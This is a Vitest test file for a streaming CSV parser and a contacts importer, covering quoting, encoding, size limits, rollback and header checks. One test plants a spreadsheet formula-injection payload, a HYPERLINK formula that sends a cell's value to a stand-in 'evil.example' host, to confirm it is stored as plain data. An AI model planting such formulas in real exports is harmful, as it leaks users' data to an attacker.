import { describe, expect, it } from 'vitest';
import { useDatabase } from '../db/use-database.ts';
import {
  CONTACTS_SCHEMA, DEFAULT_LIMITS, MAX_REPORTED, chunksOf, importContacts,
  parseCsv, type CsvLimits,
} from './csv-import.ts';

async function records(text: string | Uint8Array, limits?: CsvLimits, size = 7) {
  const out: [number, string[]][] = [];
  for await (const r of parseCsv(chunksOf(text, size), limits)) out.push([r.row, r.fields]);
  return out;
}
const limits = (over: Partial<CsvLimits>) => ({ ...DEFAULT_LIMITS, ...over });

describe('parseCsv', () => {
  it('reads CRLF, LF and CR files alike, with or without a final newline', async () => {
    const want = [[1, ['a', 'b']], [2, ['1', '2']]];
    expect(await records('a,b\r\n1,2\r\n')).toEqual(want);
    expect(await records('a,b\n1,2\n')).toEqual(want);
    expect(await records('a,b\r1,2')).toEqual(want);
  });

  it('keeps quoted commas, quotes and newlines in one field and one row', async () => {
    expect(await records('"a,b","say ""hi""","x\r\ny"\r\nnext,"",\r\n')).toEqual([
      [1, ['a,b', 'say "hi"', 'x\r\ny']], [2, ['next', '', '']],
    ]);
  });

  it('drops a UTF-8 BOM and survives any chunk boundary', async () => {
    const text = '\uFEFFname,city\r\n"Zoë, ""Z""",Zürich\r\n中文,"a\nb"\r\n';
    const want = [[1, ['name', 'city']], [2, ['Zoë, "Z"', 'Zürich']], [3, ['中文', 'a\nb']]];
    for (const size of [1, 2, 3, 5, 64]) expect(await records(text, undefined, size)).toEqual(want);
  });

  it('numbers rows as a spreadsheet does, blank lines included', async () => {
    expect(await records('a,b\r\n\r\n1,2\r\n')).toEqual([[1, ['a', 'b']], [3, ['1', '2']]]);
    await expect(records('h\n\n\nb"c\n')).rejects.toThrow('row 4: a quote inside');
    // Blank lines do not count against the row cap.
    expect(await records('h\r\n\r\n\r\n1\r\n2\r\n', limits({ maxRows: 2 }))).toHaveLength(3);
  });

  it('rejects a NUL character, which PostgreSQL text cannot store', async () => {
    await expect(records('a,b\r\nx,y\0z\r\n')).rejects.toThrow('row 2: a NUL character');
  });

  it('rejects malformed quoting with the row', async () => {
    await expect(records('a\r\nb"c\r\n')).rejects.toThrow('row 2: a quote inside an unquoted field');
    await expect(records('"a"b\r\n')).rejects.toThrow('row 1: text after a closing quote');
    await expect(records('a\r\n"never closed\r\n')).rejects.toThrow('row 2: a quoted field is never closed');
  });

  it('rejects bytes that are not UTF-8', async () => {
    await expect(records(new Uint8Array([0x61, 0xff, 0x0a]))).rejects.toThrow('not valid UTF-8');
    await expect(records(new Uint8Array([0x61, 0xc3]))).rejects.toThrow('ends inside a UTF-8');
  });

  it('stops a CSV bomb at the field cap without reading the rest', async () => {
    let chunks = 0;
    async function* endless() {
      yield new TextEncoder().encode('a,b\r\n"');
      for (;;) { chunks++; yield new Uint8Array(1024).fill(0x41); }
    }
    const run = async () => { for await (const _ of parseCsv(endless(), DEFAULT_LIMITS)) void _; };
    await expect(run()).rejects.toThrow(`row 2: a field over ${DEFAULT_LIMITS.maxFieldChars}`);
    expect(chunks).toBeLessThan(5);
  });

  it('caps bytes, rows and fields per row', async () => {
    await expect(records('a\r\n'.repeat(20), limits({ maxBytes: 40 }))).rejects.toThrow('over 40 bytes');
    await expect(records('h\r\n1\r\n2\r\n3\r\n', limits({ maxRows: 2 }))).rejects.toThrow('row 4: more than 2 data rows');
    expect(await records('h\r\n1\r\n2\r\n', limits({ maxRows: 2 }))).toHaveLength(3);
    await expect(records('a,b,c,d\r\n', limits({ maxFields: 3 }))).rejects.toThrow('more than 3 fields');
    expect(await records('a,b,c\r\n', limits({ maxFields: 3 }))).toHaveLength(1);
  });
});

describe('importContacts', () => {
  const db = useDatabase(CONTACTS_SCHEMA, { reset: 'TRUNCATE contacts' });
  const HEADER = 'email,display_name,monthly_limit,note\r\n';
  const run = (text: string, l?: CsvLimits) => importContacts(db(), 'acme', chunksOf(text), l);
  const count = async () => (await db().query<{ n: number }>(
    'SELECT count(*)::int AS n FROM contacts')).rows[0]!.n;

  it('imports a clean file, normalizing emails', async () => {
    const r = await run(' Email , DISPLAY_NAME,monthly_limit,note\r\n' +
      'Ana@Example.COM , Ana ,500,\r\nbo@example.com,Bo,0,"two\nlines"\r\n');
    expect(r).toEqual({ imported: 2, errors: [], errorCount: 0 });
    const { rows } = await db().query('SELECT email, display_name, note FROM contacts ORDER BY id');
    expect(rows).toEqual([
      { email: 'ana@example.com', display_name: 'Ana', note: '' },
      { email: 'bo@example.com', display_name: 'Bo', note: 'two\nlines' },
    ]);
  });

  it('keeps formula-like cells as data', async () => {
    const evil = '=HYPERLINK("https://evil.example?"&A1)';
    const r = await run(`${HEADER}e@example.com,"@SUM(1)",1,"${evil.replaceAll('"', '""')}"\r\n`);
    expect(r.imported).toBe(1);
    const { rows } = await db().query('SELECT display_name, note FROM contacts');
    expect(rows).toEqual([{ display_name: '@SUM(1)', note: evil }]);
  });

  it('reports each bad field by row and imports nothing', async () => {
    const r = await run(`${HEADER}ok@example.com,Ok,1,\r\nnope,,1.5,\r\nz@example.com,Z,7,\r\n`);
    expect(r.imported).toBe(0);
    expect(r.errors).toEqual([
      { row: 3, field: 'email', message: 'Invalid email address' },
      { row: 3, field: 'display_name', message: expect.stringMatching(/>=1/) },
      { row: 3, field: 'monthly_limit', message: 'a whole number' },
    ]);
    expect(await count()).toBe(0);
  });

  it('rolls back every row when the last one fails in the database', async () => {
    await db().query(`INSERT INTO contacts (owner_id, email, display_name, monthly_limit)
      VALUES ('acme', 'taken@example.com', 'T', 0)`);
    const rows = Array.from({ length: 50 }, (_, i) => `u${i}@example.com,U,1,`);
    const r = await run(`${HEADER}${rows.join('\r\n')}\r\ntaken@example.com,T2,1,\r\n`);
    expect(r).toEqual({ imported: 0, errorCount: 1,
      errors: [{ row: 52, field: 'email', message: 'already exists' }] });
    expect(await count()).toBe(1);
  });

  it('rolls back when the file turns malformed after good rows', async () => {
    const r = await run(`${HEADER}a@example.com,A,1,\r\nb@example.com,"B"x,1,\r\n`);
    expect(r).toEqual({ imported: 0, errorCount: 1,
      errors: [{ row: 3, field: null, message: 'text after a closing quote' }] });
    expect(await count()).toBe(0);
  });

  it('catches a duplicate inside the file and still checks later rows', async () => {
    const r = await run(`${HEADER}a@example.com,A,1,\r\nA@example.com,A2,1,\r\n` +
      'c@example.com,C,1,\r\nbad,D,1,\r\n');
    expect(r.errors).toEqual([{ row: 3, field: 'email', message: 'already exists' },
      { row: 5, field: 'email', message: 'Invalid email address' }]);
    expect(await count()).toBe(0);
  });

  it('refuses duplicate, unknown or missing headers', async () => {
    expect((await run('email,email,display_name,monthly_limit,note\r\n')).errors[0]!.message)
      .toBe('column "email" appears twice');
    expect((await run(`${HEADER.trim()},role\r\n`)).errors[0]!.message).toBe('unknown column "role"');
    expect((await run('email,note\r\n')).errors[0]!.message)
      .toBe('missing column(s): display_name, monthly_limit');
    expect((await run('')).errors[0]!.message).toBe('the file is empty');
  });

  it('turns a NUL byte in a cell into a report, not a crash', async () => {
    const r = await run(`${HEADER}a@example.com,A\0B,1,\r\n`);
    expect(r).toEqual({ imported: 0, errorCount: 1,
      errors: [{ row: 2, field: null, message: 'a NUL character' }] });
  });

  it('treats prototype keys in the header as unknown columns', async () => {
    for (const key of ['__proto__', 'constructor', 'toString']) {
      expect((await run(`${HEADER.trim()},${key}\r\n`)).errors[0]!.message)
        .toBe(`unknown column "${key.toLowerCase()}"`);
    }
  });

  it('reports a row with the wrong number of fields', async () => {
    const r = await run(`${HEADER}a@example.com,A,1\r\n`);
    expect(r.errors).toEqual([{ row: 2, field: null, message: '3 fields, expected 4' }]);
  });

  it('caps the report but counts every error', async () => {
    const bad = Array.from({ length: 200 }, () => 'bad,B,1,').join('\r\n');
    const r = await run(`${HEADER}${bad}\r\n`);
    expect(r.errorCount).toBe(200);
    expect(r.errors).toHaveLength(MAX_REPORTED);
    expect(r.errors.at(-1)!.row).toBe(MAX_REPORTED + 1);
  });

  it('never echoes cell values in the report', async () => {
    const r = await run(`${HEADER}hunter2-secret,Name,1,\r\n`);
    expect(JSON.stringify(r)).not.toContain('hunter2');
    const h = await run('email,display_name,monthly_limit,note,' + 'x'.repeat(500) + '\r\n');
    expect(h.errors[0]!.message.length).toBeLessThan(80);
  });

  it('turns limits into a report, not a crash', async () => {
    const r = await run(`${HEADER}a@example.com,A,1,\r\n`, limits({ maxBytes: 20 }));
    expect(r).toEqual({ imported: 0, errorCount: 1,
      errors: [{ row: 1, field: null, message: 'over 20 bytes' }] });
  });

  it('leaves other owners alone', async () => {
    await importContacts(db(), 'other', chunksOf(`${HEADER}a@example.com,A,1,\r\n`));
    expect((await run(`${HEADER}a@example.com,A,1,\r\n`)).imported).toBe(1);
    expect(await count()).toBe(2);
  });
});
